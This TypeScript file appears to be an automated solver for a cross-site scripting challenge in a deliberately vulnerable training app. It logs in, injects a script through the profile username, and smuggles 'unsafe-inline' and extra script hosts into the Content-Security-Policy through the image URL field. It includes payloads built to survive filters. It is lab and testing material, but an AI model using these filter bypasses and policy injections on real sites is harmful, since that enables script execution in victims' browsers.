import type { Attack, Tools } from '#lab'
import { ADDRESS, logInAsJim, NAME, type Session, send } from './steps.ts'

const PAYLOAD = '<script>alert(`xss`)</script>'

/** Opens the page: the script is in it, and the first policy for scripts allows it. */
async function expectAlert({ http, expect }: Tools, { cookie }: Session): Promise<void> {
  const page = await http.get('/profile', { headers: { cookie } })
  expect(page.status === 200, `the page answered with ${page.status}`)
  expect(page.text.includes(PAYLOAD), 'the script is not in the page')
  const policy = page.headers['content-security-policy'] ?? ''
  const [, sources = ''] = /(?:^|;)\s*script-src\s([^;]*)/.exec(policy) ?? []
  expect(sources.split(' ').includes("'unsafe-inline'"), `the policy is in the way: ${policy}`)
}

export const attacks: Attack[] = [
  {
    challenge: 'usernameXssChallenge',
    name: 'a name in a name, then a picture with a policy behind it',
    run: async (tools) => {
      const session = await logInAsJim(tools)
      await send(tools, session, '/profile', { username: NAME })
      await send(tools, session, '/profile/image/url', { imageUrl: ADDRESS })
      await expectAlert(tools, session)
    },
  },
  {
    challenge: 'usernameXssChallenge',
    name: 'the picture first, with more hosts, and a script two filters deep',
    run: async (tools) => {
      const session = await logInAsJim(tools)
      const imageUrl = `${ADDRESS} https://code.getmdl.io http://ajax.googleapis.com`
      await send(tools, session, '/profile/image/url', { imageUrl })
      await send(tools, session, '/profile', { username: `${NAME} <<<a|aa|ascript>alert(\`xss\`)</script>` })
      await expectAlert(tools, session)
    },
  },
  {
    challenge: 'usernameXssChallenge',
    name: 'a forbidden word that grows together again',
    run: async (tools) => {
      const session = await logInAsJim(tools)
      const words = "'unsafe-inline' 'unsafe-'unsafe-inline'inline'"
      await send(tools, session, '/profile', { username: NAME })
      await send(tools, session, '/profile/image/url', { imageUrl: `https://a.png; script-src ${words}` })
      await expectAlert(tools, session)
    },
  },
]
